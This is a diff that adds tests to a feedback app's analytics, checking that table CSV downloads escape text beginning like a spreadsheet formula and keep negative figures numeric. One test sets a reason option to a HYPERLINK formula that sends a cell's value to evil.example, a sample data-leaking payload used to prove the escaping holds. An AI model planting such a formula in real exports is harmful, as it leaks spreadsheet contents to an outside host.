@@ -123,3 +123,46 @@ def test_the_reports_page_lists_quarters_and_the_offices_a_reader_may_see(client
     page = client.get("/analytics/reports").get_data(as_text=True)
     assert "/analytics/reports/AA/" in page and "/analytics/reports/BB/" not in page
     assert "/analytics/reports/city/" not in page
+
+
+EVIL_REASON = '=HYPERLINK("http://evil.example/?leak="&B2,"詳細")'
+
+
+def test_a_reason_text_written_as_a_formula_downloads_as_text_in_the_table_csv(client, quarter_data, org):
+    """A reason option's wording comes from an admin's form: the CSV keeps it as text a spreadsheet will not run."""
+    import csv
+
+    import sqlalchemy as sa
+
+    from feedback_app.extensions import db
+    from feedback_app.models import Question
+
+    for reasons in db.session.scalars(sa.select(Question).where(Question.role == "reason")):
+        reasons.options = [
+            {**o, "texts": {**o["texts"], "zh_TW": EVIL_REASON}} if o["code"] == "wait_long" else o
+            for o in reasons.options
+        ]
+    db.session.commit()
+    login(client, "aa.director")
+    response = client.get("/analytics/table/reasons.csv?period=2025-Q2")
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
+    reason_rows = [row for row in rows if len(row) == 4 and "HYPERLINK" in row[0]]
+    assert [row[0] for row in reason_rows] == ["'" + EVIL_REASON]
+    assert reason_rows[0][1].isdigit()  # the count beside it is still a number
+
+
+def test_every_table_csv_escapes_text_that_starts_like_a_formula_and_leaves_negative_figures_as_numbers():
+    import csv
+
+    from feedback_app.services import reports, stats
+
+    table = reports.Table("t", "=title", ["@header", "Change"])
+    drop = stats.Growth(points=-3.2, relative=-0.05)
+    table.rows.append([reports.Cell("-not a number", "-not a number"), reports.num(-12)])
+    table.rows.append([reports.Cell("+886 2 1234", None), reports.points(drop)])
+    table.rows.append([reports.Cell("\tindent", "\tindent"), reports.relative(drop)])
+    rows = list(csv.reader(io.StringIO(reports.table_csv(table).decode("utf-8-sig"))))
+    assert rows[0] == ["'=title"] and rows[1] == ["'@header", "Change"]
+    assert [row[0] for row in rows[2:5]] == ["'-not a number", "'+886 2 1234", "'\tindent"]
+    assert [row[1] for row in rows[2:5]] == ["-12", reports.points(drop).text, "-5.0%"]
